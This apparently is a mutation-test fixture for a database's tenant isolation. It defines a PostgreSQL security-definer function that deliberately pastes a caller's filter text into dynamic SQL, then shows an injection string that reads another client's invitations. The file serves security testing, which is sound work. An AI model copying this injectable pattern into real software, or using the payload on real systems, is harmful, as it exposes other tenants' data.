-- mutant: A definer function pastes its caller's filter behind the client's condition
-- base: flows
-- family: function
-- leaks: values of another client
create function flows.search_invitations(filter text) returns setof flows.invitations
language plpgsql stable security definer set search_path = ''
as $$ begin
  return query execute 'select * from flows.invitations where client_id = $1 and status = ''' || filter || ''''
    using flows.current_client_id();
end $$;
revoke all on function flows.search_invitations(text) from public;
grant execute on function flows.search_invitations(text) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
select * from flows.search_invitations('x'' or ''a'' = ''a') where client_id = '{{b}}';
